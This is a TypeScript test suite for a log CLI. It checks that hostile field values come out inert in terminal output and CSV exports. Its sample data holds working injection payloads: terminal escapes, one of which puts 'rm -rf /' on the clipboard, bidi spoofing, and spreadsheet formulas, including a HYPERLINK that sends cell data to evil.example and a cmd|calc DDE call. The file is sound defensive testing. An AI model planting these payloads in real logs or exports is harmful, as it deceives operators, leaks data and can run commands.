// Whatever stands in a log, reading it does nothing but show it: not to a terminal, not to a spreadsheet.
import assert from 'node:assert/strict';
import { rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import fc from 'fast-check';
import { type Fields, temporaryFolder, TestLog } from './log.test.support.ts';
import { runCli } from './run.test.support.ts';
import { shellQuote } from './verify-view.ts';

/** What a terminal, a spreadsheet or a reader's eye could be deceived by. */
const hostile = {
  colours: '\u001b[31mred\u001b[0m',
  'clear screen': '\u001b[2J\u001b[1;1Hroot@host#',
  link: '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  clipboard: '\u001b]52;c;cm0gLXJmIC8=\u0007',
  title: '\u001b]0;owned\u001b\\',
  C1: '\u009b31m\u009d0;owned\u009c\u0085',
  overwriting: 'failed\rcompleted',
  backspaces: 'denied\b\b\b\b\b\bgranted',
  'a line of its own': 'ok\n2026-11-24T14:03:22.118Z INFO  job_completed forged',
  'other line breaks': 'ok\u2028forged\u2029forged\u000bforged\u000cforged',
  bidi: '\u202egnp.exe\u202c\u2066x\u2069\u200e\u200f\u061c',
  'zero width': 'j\u200b-\u2060\ufeff42\u00ad',
  tags: `a${String.fromCodePoint(0xe0041, 0xe007f)}b`,
  'NUL and DEL': 'a\u0000b\u007fc',
  surrogate: 'a\ud800b',
  'a formula': '=HYPERLINK("http://evil.example?x="&A1,"x")',
  'other formulas': '+cmd|\' /C calc\'!A0',
  'an indented formula': '\t@SUM(1+1)',
  'a minus formula': '-2+3+cmd|x',
  'a cell\'s end': 'a","=1+1',
} as const;

/** Written out, not by the classes that the code uses: what is told apart here must not be told apart by the same mistake. */
const harmful =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]|[\u{e0000}-\u{e007f}]/u;
const lonelySurrogate = /\p{Cs}/u;

/** A log whose every field holds the same text. It goes through JSON, as a writer's would. */
function hostileLog(context: TestContext, text: string): TestLog {
  const every: Fields = {
    agent_id: text,
    tenant_id: text,
    job_id: text,
    report_id: text,
    error: `${text}\n${text}`,
    details: { [text]: text, [`x${text}`]: { [text]: [text] }, job_type: text, target: text },
    actor: { type: 'user', id: text, name: text },
    target: { type: text, id: text, name: text },
    outcome: text,
    trace_id: text,
    span_id: text,
    parent_span_id: text,
    invalid: [text],
    imported: { from: text, file_sha256: text, line: 1 },
  };
  const types = ['job_received', 'job_started', 'scan_started', 'upload_retry', 'resource_throttle', 'auth_failed', 'scan_failed'];
  const log = new TestLog(temporaryFolder(context));
  for (const type of [...types, text]) log.event(type, 'ERROR', text, { ...every, duration_ms: 3 });
  log.event('job_started', text, text, { ...every, span_id: '', parent_span_id: '' });
  log.event('job_failed', 'ERROR', text, { ...every, span_id: '', parent_span_id: '' });
  const counts = [{ type: text, severity: text, events: 1 }];
  log.event('log.loss', 'WARN', text, { details: { events: 1, counts, first_at: text, last_at: text, why: text } });
  log.event('log.recovered', 'INFO', text, { details: { torn_bytes: 1, torn_sha256: text, torn_files: [text] } });
  log.event('log.orphan', 'INFO', text, { details: { seq: 1, span_id: text } });
  log.event('log.prune', 'INFO', text, { details: { next: 0, bytes: 1, why: text } });
  log.line(`{"seq":${log.size},"timestamp":"${text}\u001b[31m`);
  return log.seal();
}

const readers: readonly (readonly string[])[] = [
  ['tail', '-n', '100'],
  ['tail', '-n', '100', '--json'],
  ['query', ''],
  ['query', '', '--json'],
  ['query', '', '--reverse'],
  ['query', '', '--fields', 'timestamp,type,severity,agent_id,job_id,message,error,details,actor.name,target'],
  ['query', '', '--fields', 'type,details', '--json'],
  ['jobs'],
  ['jobs', '--json'],
  ['stats'],
  ['stats', '--json'],
  ['export'],
  ['export', '--format', 'csv'],
  ['export', '--format', 'csv', '--fields', 'agent_id,message,details'],
  ['verify'],
  ['verify', '--json'],
  ['doctor'],
  ['key'],
];

/** Runs a command on a terminal without colours, so that every control character there is the log's. */
async function assertInert(argv: readonly string[], what: string): Promise<string> {
  const { out, err, status } = await runCli([...argv], { terminal: true, columns: 90 });
  // Only rows of CSV end in CR LF.
  const text = argv.includes('csv') ? out.replaceAll('\r\n', '\n') : out;
  for (const shown of [text, err]) {
    const at = shown.search(harmful);
    assert.equal(at, -1, `${argv.join(' ')}, ${what}: ${JSON.stringify(shown.slice(Math.max(0, at - 60), at + 20))}`);
    assert.doesNotMatch(shown, lonelySurrogate, `${argv.join(' ')}, ${what}`);
  }
  assert.notEqual(status, 130);
  assert.doesNotMatch(err, /INTERNAL/);
  return out;
}

describe('hostile text', () => {
  for (const [what, text] of Object.entries(hostile)) {
    it(`is inert in what every command says of a log: ${what}`, async (context) => {
      const { path } = hostileLog(context, text);
      for (const argv of readers) await assertInert([...argv, '--log', path], what);
      for (const argv of [['jobs', text, path], ['jobs', text, path, '--json'], ['jobs', `no${text}`, path]]) await assertInert(argv, what);
      // What is asked for is told of as well.
      await assertInert(['query', `nofield${text}:x`, path], what);
      await assertInert(['query', '', path, '--fields', text], what);
      await assertInert(['query', '', path, '--since', text], what);
      await assertInert([`x${text}`], what);
    });
  }

  it('is inert in the name of a log', async (context) => {
    const folder = temporaryFolder(context);
    const log = new TestLog(join(folder, 'log')).event('job_started', 'INFO', 'Job started', { job_id: 'j' }).seal();
    for (const name of ['a\u001b[31m\u202eb', 'a\rb', 'a\nb', '\u009b31m']) {
      const link = join(folder, name);
      symlinkSync(join(folder, 'log'), link);
      const path = join(link, 'audit.log');
      for (const argv of readers) await assertInert([...argv, '--log', path], name);
      await assertInert(['jobs', 'j', path], name);
      await assertInert(['jobs', 'k', path], name);
      await assertInert(['query', '', join(link, 'missing.log')], name);
      await assertInert(['export', '--log', path, '--out', join(folder, `${name}.csv`)], name);
      await assertInert(['export', '--log', path, '--out', join(folder, `${name}.csv`)], name);
      rmSync(link);
    }
    assert.ok(log.size > 0);
  });

  it('is inert in a command that is to be copied, and still the same word', () => {
    assert.equal(shellQuote('a\u001b[31m\u202eb'), String.raw`$'a\u001b[31m\u202eb'`);
    assert.equal(shellQuote("it's\n\\n"), String.raw`$'it\'s\n\\n'`);
    assert.equal(shellQuote(String.fromCodePoint(0xe0041)), String.raw`$'\U000e0041'`);
  });

  it('is no formula in CSV, wherever it stands', async (context) => {
    for (const text of Object.values(hostile)) {
      const { path } = hostileLog(context, text);
      const { out } = await runCli(['export', '--log', path, '--format', 'csv']);
      for (const row of out.split('\r\n')) {
        for (const [, quoted, bare] of row.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)) {
          assert.doesNotMatch(quoted?.replaceAll('""', '"') ?? bare ?? '', /^[\s"]*[=+@]|^-[^\d]|^-.*[+|]/, row);
        }
      }
    }
  });

  it('is inert whatever it is', async (context) => {
    const unit = fc.constantFrom(...Object.values(hostile).flatMap((text) => [...text]), ...'aZ09 ="\'\\');
    await fc.assert(
      fc.asyncProperty(fc.string({ unit, minLength: 1, maxLength: 40 }), async (text) => {
        const { path } = hostileLog(context, text);
        for (const argv of [['tail'], ['query', ''], ['jobs'], ['stats'], ['export', '--format', 'csv'], ['verify']])
          await assertInert([...argv, '--log', path], JSON.stringify(text));
        await assertInert(['jobs', '--log', path, `id${text}`], JSON.stringify(text));
      }),
      { numRuns: 25 },
    );
  });
});
